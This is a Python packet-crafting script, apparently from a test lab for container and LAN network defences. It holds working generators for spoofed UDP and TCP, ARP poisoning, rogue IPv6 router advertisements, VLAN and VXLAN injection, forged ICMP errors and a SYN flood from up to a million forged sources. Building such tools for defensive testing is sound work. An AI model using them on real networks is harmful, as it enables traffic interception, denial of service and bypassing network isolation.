#!/usr/bin/env python3
# What a hostile process in a container (with NET_RAW) or on the LAN sends: forged sources, poisoned ARP, VLAN tags, packets that no
# connection explains. Each mode sends `count` packets (1 unless told) and prints how many the kernel took. Only for the lab's namespaces.
import os
import socket
import struct
import time

from probe import family, main, say


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def mac_bytes(text):
    return bytes.fromhex(text.replace(':', ''))


def device_mac(sock):
    """The device's own address, asked of the socket: /sys may show another namespace's links."""
    return ':'.join('%02x' % byte for byte in sock.getsockname()[4])


def addresses(src, dst):
    fam = family(dst)
    return socket.inet_pton(fam, src), socket.inet_pton(fam, dst)


def with_checksum(src, dst, proto, segment, at):
    one, two = addresses(src, dst)
    pseudo = one + two + (struct.pack('!BBH', 0, proto, len(segment)) if len(one) == 4 else struct.pack('!IHBB', len(segment), 0, 0, proto))
    value = checksum(pseudo + segment) or 0xffff
    return segment[:at] + struct.pack('!H', value) + segment[at + 2:]


def udp(spec):
    payload = spec['data'] if 'data' in spec else spec.get('payload', 'attack').encode()
    head = struct.pack('!HHHH', spec.get('sport', 40000), spec['port'], 8 + len(payload), 0)
    return with_checksum(spec['src'], spec['dst'], 17, head + payload, 6)


def tcp(spec):
    """Flags as a number: 0 is the null scan that conntrack calls INVALID, 0x12 a SYN-ACK nobody asked for, 0x10 a bare ACK."""
    head = struct.pack('!HHIIBBHHH', spec.get('sport', 40000), spec['port'], spec.get('seq', 1), 0, 5 << 4, spec.get('flags', 0), 1024, 0, 0)
    return with_checksum(spec['src'], spec['dst'], 6, head, 16)


def crc32c(data):
    value = 0xffffffff
    for byte in data:
        value ^= byte
        for _ in range(8):
            value = value >> 1 ^ (0x82f63b78 if value & 1 else 0)
    return value ^ 0xffffffff


def sctp(spec):
    """The first packet of an association, an INIT chunk, with the checksum that conntrack looks at: it takes no SCTP in the kernel."""
    init = struct.pack('!BBHIIHHI', 1, 0, 20, 0x5eed, 65536, 1, 1, 1)
    head = struct.pack('!HHII', spec.get('sport', 40000), spec['port'], 0, 0)
    return head[:8] + struct.pack('<I', crc32c(head + init)) + init


def ip(spec, proto, body):
    one, two = addresses(spec['src'], spec['dst'])
    if len(one) == 16:
        return struct.pack('!IHBB', 6 << 28, len(body), proto, 64) + one + two + body
    head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(body), os.getpid() & 0xffff, 0, spec.get('ttl', 64), proto, 0) + one + two
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + body


def icmp_error(spec):
    """An error about a datagram that `inner` describes, with the MTU that a router would tell."""
    about = ip(spec['inner'], 17, udp(spec['inner']))
    head = struct.pack('!BBHI', spec['type'], spec.get('code', 0), 0, spec.get('mtu', 1280 if ':' in spec['dst'] else 576))
    body = head + about[:120]
    if ':' in spec['dst']:
        return with_checksum(spec['src'], spec['dst'], 58, body, 2)
    return body[:2] + struct.pack('!H', checksum(body)) + body[4:]


def repeat(spec, send):
    sent, detail = 0, None
    for _ in range(min(int(spec.get('count', 1)), 100000)):
        try:
            send()
            sent += 1
        except OSError as error:
            detail = str(error)
        if spec.get('intervalMs'):
            time.sleep(spec['intervalMs'] / 1000)
    say({'sent': sent, **({'detail': detail} if detail else {})})


def send_ip(spec, proto, body):
    """By IP (routed as any packet), or as a frame straight to `dstMac`, past routes and ARP."""
    packet = ip(spec, proto, body)
    if spec.get('dstMac'):
        kind = 0x86dd if ':' in spec['dst'] else 0x0800
        return send_frame(spec, struct.pack('!H', kind) + packet)
    if ':' in spec['dst']:
        sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    if spec.get('device'):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, spec['device'].encode() + b'\0')
    return repeat(spec, lambda: sock.sendto(packet, (spec['dst'], 0)))


def send_frame(spec, typed):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((spec['device'], 0))
    frame = mac_bytes(spec['dstMac']) + mac_bytes(spec.get('srcMac') or device_mac(sock)) + typed
    return repeat(spec, lambda: sock.send(frame.ljust(60, b'\0')))


def vlan(spec):
    """A UDP packet in a frame with an 802.1Q tag: `vlan` 0 is priority only, anything else a VLAN."""
    kind = 0x86dd if ':' in spec['dst'] else 0x0800
    send_frame(spec, struct.pack('!HHH', 0x8100, spec.get('vlan', 0), kind) + ip(spec, 17, udp(spec)))


def vxlan(spec):
    """What nodes send each other: a datagram of an overlay, that `inner` describes with both MACs, in one to the node's data port; `vni` says which."""
    inner = spec['inner']
    frame = mac_bytes(inner['dstMac']) + mac_bytes(inner['srcMac']) + struct.pack('!H', 0x0800) + ip(inner, 17, udp(inner))
    send_ip(spec, 17, udp({**spec, 'data': struct.pack('!II', 0x08000000, spec['vni'] << 8) + frame}))


def frames(spec):
    """Many frames that are ready but for their source, three times each: `frames` is a list of `dstMac` and, in hexadecimal, `typed`."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((spec['device'], 0))
    own, sent, detail = mac_bytes(device_mac(sock)), 0, None
    for _ in range(3):
        for frame in spec['frames']:
            try:
                sock.send((mac_bytes(frame['dstMac']) + own + bytes.fromhex(frame['typed'])).ljust(60, b'\0'))
                sent += 1
            except OSError as error:
                detail = str(error)
    say({'sent': sent, **({'detail': detail} if detail else {})})


def arp(spec):
    """Claims that `claimIp` is at this device's address (or `claimMac`): told to `targetIp`/`dstMac`, or to all as a gratuitous one."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((spec['device'], 0))
    own = mac_bytes(spec.get('claimMac') or device_mac(sock))
    to = mac_bytes(spec.get('dstMac', 'ff:ff:ff:ff:ff:ff'))
    target = spec.get('targetIp', spec['claimIp'])
    operation = 2 if spec.get('reply', True) else 1
    body = struct.pack('!HHBBH', 1, 0x0800, 6, 4, operation) + own + socket.inet_aton(spec['claimIp']) + to + socket.inet_aton(target)
    frame = to + own + struct.pack('!H', 0x0806) + body
    repeat(spec, lambda: sock.send(frame.ljust(60, b'\0')))


def freebind(spec):
    """UDP from an address that is not ours, without any capability: IPV6_FREEBIND; `uid` drops root first. (IPv4's
    IP_FREEBIND binds as well, but then the kernel finds no route from an address that is not local.)"""
    if spec.get('uid'):
        os.setgid(spec['uid'])
        os.setuid(spec['uid'])
    fam = family(spec['dst'])
    sock = socket.socket(fam, socket.SOCK_DGRAM)
    if fam == socket.AF_INET6:
        sock.setsockopt(socket.IPPROTO_IPV6, 78, 1)
    else:
        sock.setsockopt(socket.IPPROTO_IP, 15, 1)
    try:
        sock.bind((spec['src'], spec.get('sport', 0)))
    except OSError as error:
        say({'sent': 0, 'detail': str(error)})
        return
    repeat(spec, lambda: sock.sendto(spec.get('payload', 'attack').encode(), (spec['dst'], spec['port'])))


def router(spec):
    """Announces `device` as a router to everybody on its link, with a /64 `prefix` of which they may make themselves addresses."""
    device = spec['device']
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b'\0')
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    head = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0)
    option = struct.pack('!BBBBIII', 3, 4, 64, 0xc0, 86400, 14400, 0) + socket.inet_pton(socket.AF_INET6, spec['prefix'])
    repeat(spec, lambda: sock.sendto(head + option, ('ff02::1', 0, 0, socket.if_nametoindex(device))))


def forge(spec):
    """`count` first packets (SYNs, or datagrams), each of a source of its own: of a /32, or over IPv6 of a block of `sourceLength`,
    counted up from `src`. `flags` lists what each source sends, one packet after the other (a SYN alone unless told); `rate` is the most in
    a second. Says when it is ready, and how many were sent when that is done or `seconds` are over."""
    count, dst, proto = min(int(spec.get('count', 1_000_000)), 1_000_000), spec['dst'], spec.get('proto', 'tcp')
    flags = spec.get('flags', [2]) if proto == 'tcp' else [None]
    until, rate = time.monotonic() + min(spec.get('seconds', 30), 60), spec.get('rate', 1_000_000)
    templates = [bytearray(forged(spec, proto, flag)) for flag in flags]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((spec['device'], 0))
    kind = 0x86dd if ':' in dst else 0x0800
    head = mac_bytes(spec['dstMac']) + mac_bytes(device_mac(sock)) + struct.pack('!H', kind)
    frames = [bytearray(head + template) for template in templates]
    is6 = kind == 0x86dd
    start, size = (22, 16) if is6 else (26, 4)
    step = 1 << (128 - spec.get('sourceLength', 128)) if is6 else 1
    first = int.from_bytes(socket.inet_pton(family(dst), spec['src']), 'big')
    layer4 = 54 if is6 else 34
    # The source stands in both sums as numbers of 16 bits: what changes is added to what was there.
    places = ([] if is6 else [24]) + [layer4 + (16 if proto == 'tcp' else 6)]
    bases = [[~struct.unpack_from('!H', frame, place)[0] & 0xffff for place in places] for frame in frames]
    old = sum(struct.unpack('!%dH' % (size // 2), first.to_bytes(size, 'big')))
    say({'ready': True})
    began, sent, failed = time.monotonic(), 0, 0
    for number in range(count):
        if number % 256 == 0:
            now = time.monotonic()
            if now > until:
                break
            if number / rate > now - began:
                time.sleep(number / rate - (now - began))
        source = (first + number * step).to_bytes(size, 'big')
        change = sum(struct.unpack('!%dH' % (size // 2), source)) - old
        for frame, base in zip(frames, bases):
            frame[start:start + size] = source
            for place, value in zip(places, base):
                total = (value + change) % 0xffff
                struct.pack_into('!H', frame, place, (~total & 0xffff) or 0xffff)
            try:
                sock.send(frame)
                sent += 1
            except OSError:
                failed += 1
    say({'sent': sent, 'failed': failed, 'seconds': round(time.monotonic() - began, 2)})


def forged(spec, proto, flag):
    if proto == 'udp':
        return ip(spec, 17, udp(spec))
    return ip(spec, 6, tcp({**spec, 'flags': flag, 'seq': 1 if flag == 2 else 2}))


if __name__ == '__main__':
    main({
        'spoof-udp': lambda spec: send_ip(spec, 17, udp(spec)),
        'sctp-init': lambda spec: send_ip(spec, 132, sctp(spec)),
        'raw-tcp': lambda spec: send_ip(spec, 6, tcp(spec)),
        'icmp-error': lambda spec: send_ip(spec, 58 if ':' in spec['dst'] else 1, icmp_error(spec)),
        'vlan': vlan,
        'vxlan': vxlan,
        'arp': arp,
        'frames': frames,
        'freebind': freebind,
        'router': router,
        'forge': forge,
    })
